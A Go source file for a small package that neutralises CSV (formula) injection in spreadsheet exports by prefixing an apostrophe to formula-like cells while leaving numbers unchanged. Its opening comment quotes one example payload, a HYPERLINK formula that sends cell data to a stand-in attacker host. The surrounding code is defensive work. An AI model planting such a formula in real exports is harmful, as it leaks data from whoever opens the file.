// Package csvcell keeps the cells of a CSV export from running as
// formulas when the file is opened in a spreadsheet program (CSV
// injection, OWASP): a text someone typed, such as an account named
// =HYPERLINK("https://evil.example/?"&A2), would otherwise run on the
// machine of whoever opens the file.
package csvcell

import (
	"strconv"
	"strings"
)

// formulaStarts are the first characters with which a spreadsheet
// program reads a cell as a formula.
const formulaStarts = "=+-@\t\r"

// Safe returns cell as written to an export: a text that starts like a
// formula after an apostrophe, which spreadsheets read as "text" and hide;
// numbers (-12.50, a credit balance) and every other cell as they are.
func Safe(cell string) string {
	if cell == "" || !strings.ContainsRune(formulaStarts, rune(cell[0])) {
		return cell
	}
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return cell
	}
	return "'" + cell
}

// Unquote undoes Safe for a cell read back from an export: an apostrophe
// before a formula's first character is dropped.
func Unquote(cell string) string {
	if len(cell) > 1 && cell[0] == '\'' && strings.ContainsRune(formulaStarts, rune(cell[1])) {
		return cell[1:]
	}
	return cell
}
